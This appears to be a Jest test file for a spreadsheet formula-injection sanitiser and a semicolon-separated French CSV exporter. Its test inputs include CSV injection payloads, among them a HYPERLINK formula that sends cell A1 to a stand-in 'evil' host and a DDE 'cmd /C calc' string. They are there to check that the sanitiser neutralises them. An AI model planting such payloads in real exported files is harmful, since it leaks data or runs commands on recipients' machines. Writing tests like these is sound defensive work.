import ExcelJS from 'exceljs';
import { frenchCsvRows } from './french-csv';
import { neutraliseFormula, neutraliseWorkbook, spreadsheetCell } from './formula-injection';

describe('neutraliseFormula (formula injection, OWASP)', () => {
  it.each(['=HYPERLINK("http://evil"&A1,"clic")', '+33 1 23', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)', '\t=1+1', '\r=1+1', '\uFF1D1+1', '-', '-12,5 h'])(
    'quotes %j, which a spreadsheet would run',
    (text) => expect(neutraliseFormula(text)).toBe(`'${text}`),
  );

  it.each(['Gare, œuvre : génie civil', '', "'=already quoted", '-5', '-12,5', '+4.25', '-12,5 %', '35,71 %', '2026-03'])('leaves %j as it is', (text) =>
    expect(neutraliseFormula(text)).toBe(text),
  );

  it('leaves numbers, dates and empty cells of a workbook as they are', () => {
    const date = new Date('2026-03-31T00:00:00Z');
    expect([spreadsheetCell(-12.5), spreadsheetCell(date), spreadsheetCell(null), spreadsheetCell('=1')]).toEqual([-12.5, date, null, "'=1"]);
  });

  it('CSV rows: ";" separated, CRLF, quoted where a cell holds a separator, a quote, a line break or a comma', () => {
    expect(frenchCsvRows([['=1+1', 'a;b', 'say "hi"', 'a,=1+1', '-3,5'], ['x']], { bom: true })).toBe(
      `\uFEFF'=1+1;"a;b";"say ""hi""";"a,=1+1";"-3,5"\r\nx\r\n`,
    );
  });
});

describe('neutraliseWorkbook', () => {
  it('quotes every formula-like text cell of every sheet, rich text included, and leaves numbers alone', () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('a').addRow(['=1+1', -3, 'ok', { richText: [{ text: '' }, { text: '@SUM(A1)', font: { bold: true } }] }]);
    wb.addWorksheet('b').addRow([null, '-2+3']);
    neutraliseWorkbook(wb);
    expect(wb.getWorksheet('a')!.getRow(1).values).toEqual([undefined, "'=1+1", -3, 'ok', { richText: [{ text: "'" }, { text: '' }, { text: '@SUM(A1)', font: { bold: true } }] }]);
    expect(wb.getWorksheet('b')!.getRow(1).getCell(2).value).toBe("'-2+3");
  });
});
